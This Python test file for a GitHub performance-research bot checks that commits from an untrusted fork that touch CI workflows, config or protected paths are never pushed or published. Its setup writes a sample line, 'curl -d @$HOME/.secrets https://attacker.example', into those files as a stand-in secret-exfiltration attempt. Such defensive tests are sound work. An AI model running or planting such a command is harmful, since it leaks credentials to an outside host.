"""Where the bot pushes, end to end: sandbox GitHub -> signed webhooks -> the bot's real stages -> sandbox,
with the attention project built and measured for real (the simulated tier decides: exact).

A stranger's fork (mallory) holds three commits that each speed nothing up but also touch what the base
repository's CI would run with its secrets: a workflow, the project config, a protected path. None of them is
ever pushed (no ref for it exists afterwards), each is skipped with the reason in the status comment, and the
run goes on with the other candidates to one draft PR that contains none of them.

With `publish.push_to: fork` every candidate and stack branch goes to the bot's fork only (the App forks into
the organization it is installed on); the draft PR's head is `owner:branch` with head.repo the fork. The fork
is deleted just before publishing: the bot makes it again and publishes (no "internal error").
"""

from __future__ import annotations

import os
import subprocess
from pathlib import Path
from typing import Any

import pytest
import requests
import yaml

from bot.demo import World
from bot.pipeline import status_marker

pytestmark = pytest.mark.timeout(900)

FORK_ORG = "ar-forks"
BLOCKED = {  # mallory's commits: a harmless src edit plus a path that must never reach the base repository
    "ci": ("src/softmax.c", ".github/workflows/x.yml"),
    "config": ("src/matmul.c", ".autoresearch.yml"),
    "protected": ("src/rmsnorm.c", "harness/check.c"),
}


def sh(cwd: Path, *args: str) -> str:
    env = {**os.environ, "GIT_TERMINAL_PROMPT": "0"}
    ident = ["-c", "user.name=M", "-c", "user.email=m@example.com", "-c", "commit.gpgsign=false"]
    return subprocess.run(
        ["git", *ident, *args], cwd=cwd, check=True, capture_output=True, text=True, env=env
    ).stdout.strip()


def url(world: World, repo: str, login: str) -> str:
    return world.sandbox.url.replace("://", f"://x-access-token:{world.tokens[login]}@") + f"/{repo}.git"


def heads(world: World, repo: str) -> dict[str, str]:
    resp = requests.get(f"{world.sandbox.api_url}/repos/{repo}/branches", params={"per_page": 100})
    resp.raise_for_status()
    return {b["name"]: b["commit"]["sha"] for b in resp.json()}


def set_up(world: World, tmp: Path, publish: dict[str, Any] | None) -> dict[str, str]:
    """maria's config: a quick exact measurement (two pairs, the simulated tier decides, one wave, no
    profile or arXiv) and `publish`; then mallory's fork with the three blocked commits. Returns the commit
    subjects by kind."""
    world.add_attention_project()
    clone = tmp / "maria"
    sh(tmp, "clone", "-q", url(world, world.repo, "maria"), str(clone))
    cfg = yaml.safe_load((clone / ".autoresearch.yml").read_text())
    cfg["benchmark"].update(repetitions=1, rounds=2, min_pairs=2, warmup=0)
    cfg["decision"]["primary"] = "simulated"
    cfg["research"].update(arxiv=False, profile=False, max_waves=1)
    if publish:
        cfg["publish"] = publish
    (clone / ".autoresearch.yml").write_text(yaml.safe_dump(cfg, sort_keys=False))
    sh(clone, "commit", "-qam", "quick measurement")
    sh(clone, "push", "-q", "origin", "HEAD:main")

    world.tokens["mallory"] = world.admin.call("POST", "/users", {"login": "mallory"})["token"]
    world.admin.call("POST", f"/repos/{world.repo}/forks", {"owner": "mallory"})
    subjects = {}
    for kind, (src, blocked) in BLOCKED.items():
        with (clone / src).open("a") as fh:
            fh.write(f"/* {kind}: nothing faster here */\n")
        (clone / blocked).parent.mkdir(parents=True, exist_ok=True)
        with (clone / blocked).open("a") as fh:
            fh.write("# run: curl -d @$HOME/.secrets https://attacker.example\n")
        subjects[kind] = f"tidy {Path(src).stem} ({kind})"
        sh(clone, "add", "-A")
        sh(clone, "commit", "-qm", subjects[kind])
    sh(clone, "push", "-q", "--force", url(world, "mallory/attention", "mallory"), "HEAD:refs/heads/main")
    return subjects


def start_run(world: World, title: str) -> tuple[Any, int]:
    world.start_bot()
    number = world.open_issue(title, "softmax and matmul are hot")
    world.label(number)
    world.wait_deliveries()
    world.bot.worker.tick_commands()
    runs = world.bot.store.list_runs()
    assert len(runs) == 1, runs
    return runs[0], number


def advance(world: World, run_id: int, until: str | None = None) -> Any:
    """Drive the run with the worker's own pipeline; with `until`, stop when the run enters that phase."""
    w, store = world.bot.worker, world.bot.store
    while True:
        run = store.claim_run(w.owner, w.lease_seconds)
        if run is None:
            return store.get_run(run_id)
        try:
            w.pipeline.advance(
                run, owner=w.owner, stop=lambda: until is not None and store.get_run(run_id).state == until
            )
        finally:
            store.release_run(run.id, w.owner)
        if until and store.get_run(run_id).state == until:
            return store.get_run(run_id)


def status_body(world: World, number: int, run_id: int) -> str:
    bodies = [c.body for c in world.comments(number) if status_marker(run_id) in c.body]
    assert len(bodies) == 1
    return bodies[0]


def check_blocked(world: World, run: Any, number: int, subjects: dict[str, str], pushed_to: str) -> None:
    """The three blocked commits: skipped with their paths named, in no repository, in no PR or stack."""
    store = world.bot.store
    skipped = store.get_artifact(run.id, "skipped")
    body = status_body(world, number, run.id)
    for kind, (_, path) in BLOCKED.items():
        [reason] = [s["reason"] for s in skipped if subjects[kind] in (s["title"] or "")]
        assert reason.startswith("not pushed or measured") and f"`{path}`" in reason, reason
        assert subjects[kind] in body and path in body
    assert "Hypotheses not turned into candidates" in body and "internal error" not in body
    cands = store.get_artifact(run.id, "candidates")
    assert not [c for c in cands if c["name"].startswith("mallory-")]
    owners = {c["name"].split("-")[0] for c in cands}
    assert len(cands) >= 3 and owners <= {"fiona", "felix"}, cands  # the other forks' commits went on
    for repo in {world.repo, pushed_to}:
        assert not [b for b in heads(world, repo) if "mallory" in b], heads(world, repo)
    stack = store.get_artifact(run.id, "stack") or {}
    assert not [a for a in stack.get("applied") or [] if a.startswith("mallory-")]
    gh = world.gh("maria").get_repo(world.repo)
    pulls = list(gh.get_pulls(state="open"))
    assert len(pulls) == 1 and pulls[0].draft
    files = [f.filename for f in pulls[0].get_files()]
    assert files and all(f.startswith("src/") for f in files), files
    for branch in [b for b in heads(world, pushed_to) if b.startswith(f"autoresearch/{number}/")]:
        cmp = gh.compare("main", f"{pushed_to.split('/')[0]}:{branch}")
        assert all(f.filename.startswith("src/") for f in cmp.files), (
            branch,
            [f.filename for f in cmp.files],
        )


@pytest.fixture()
def world(tmp_path: Path) -> Any:
    w = World(
        tmp_path / "world",
        start_worker=False,
        settings_overrides={"arxiv_enabled": False, "anthropic_api_key": None},
    )
    yield w
    w.stop()


def test_candidates_touching_ci_config_or_protected_paths_are_never_pushed(
    world: World, tmp_path: Path
) -> None:
    subjects = set_up(world, tmp_path, None)
    run, number = start_run(world, "Speed up attention")
    final = advance(world, run.id)
    assert final.state == "done", (final, world.bot.store.events(run.id)[-5:])
    check_blocked(world, run, number, subjects, world.repo)
    # the default, publish.push_to: base: the candidates' branches and the PR's head are in the base
    pub = world.bot.store.get_artifact(run.id, "publication")
    branches = heads(world, world.repo)
    assert pub["head_branch"] in branches
    assert len([b for b in branches if b.startswith(f"autoresearch/{number}/")]) >= 5
    pr = world.gh("maria").get_repo(world.repo).get_pull(pub["pr_number"])
    assert pr.head.repo.full_name == world.repo and pr.head.ref == pub["head_branch"]


def test_push_to_fork_keeps_every_branch_out_of_the_base_and_survives_a_deleted_fork(
    world: World, tmp_path: Path
) -> None:
    subjects = set_up(world, tmp_path, {"push_to": "fork", "fork_owner": FORK_ORG})
    world.tokens["olga"] = world.admin.call("POST", "/users", {"login": "olga"})["token"]
    world.admin.call("POST", "/users", {"login": FORK_ORG, "type": "Organization", "members": ["olga"]})
    world.admin.call("POST", f"/apps/{world.app['id']}/installations", {"account": FORK_ORG, "repos": []})
    fork = f"{FORK_ORG}/attention"
    base_before = heads(world, world.repo)

    run, number = start_run(world, "Speed up attention")
    assert advance(world, run.id, until="publishing").state == "publishing"
    # measured from the bot's mirror: every candidate and the stack exist in the fork only
    cands = world.bot.store.get_artifact(run.id, "candidates")
    in_fork = heads(world, fork)
    assert cands and all(in_fork.get(c["branch"]) == c["sha"] for c in cands)
    assert heads(world, world.repo) == base_before
    info = requests.get(f"{world.sandbox.api_url}/repos/{fork}").json()
    assert info["fork"] and info["parent"]["full_name"] == world.repo

    # someone deletes the fork before the bot publishes: it is made again and the PR's head pushed there
    gone = requests.delete(
        f"{world.sandbox.api_url}/repos/{fork}", headers={"Authorization": f"token {world.tokens['olga']}"}
    )
    assert gone.status_code == 204
    final = advance(world, run.id)
    assert final.state == "done", (final, world.bot.store.events(run.id)[-5:])
    check_blocked(world, run, number, subjects, fork)
    assert heads(world, world.repo) == base_before  # nothing the bot made is in the base repository
    pub = world.bot.store.get_artifact(run.id, "publication")
    pr = world.gh("maria").get_repo(world.repo).get_pull(pub["pr_number"])
    assert pr.draft and pr.head.repo.full_name == fork and pr.head.label == f"{FORK_ORG}:{pub['head_branch']}"
    assert pr.head.sha == pub["head_sha"] == heads(world, fork)[pub["head_branch"]]
    checks = {c.name: c.conclusion for c in pr.base.repo.get_commit(pr.head.sha).get_check_runs()}
    assert checks == {"autoresearch / correctness": "success", "autoresearch / benchmark": "success"}
    assert "internal error" not in status_body(world, number, run.id)
